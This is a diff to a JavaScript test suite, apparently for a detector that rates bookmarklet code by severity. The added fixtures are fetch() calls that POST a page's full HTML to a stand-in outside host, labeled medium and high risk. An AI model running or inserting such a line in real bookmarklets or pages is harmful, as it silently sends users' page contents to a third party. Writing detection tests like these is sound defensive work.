@@ -34,8 +34,13 @@ describe("page-scraping", () => {
 			),
 		],
 		[
-			"text sent silently by a bookmarklet",
+			"text a bookmarklet has looked at by a server: look at it",
 			["medium 1"],
+			`fetch("https://c.stranger.test/",{method:"POST",body:document.body.innerHTML}).then(r=>r.text()).then(alert)`,
+		],
+		[
+			"text a bookmarklet sends for the sake of whoever gets it",
+			["high 1"],
 			`fetch("https://c.stranger.test/",{method:"POST",body:document.body.innerHTML})`,
 		],
 	])("finds %s", (_title, expected, code) => {
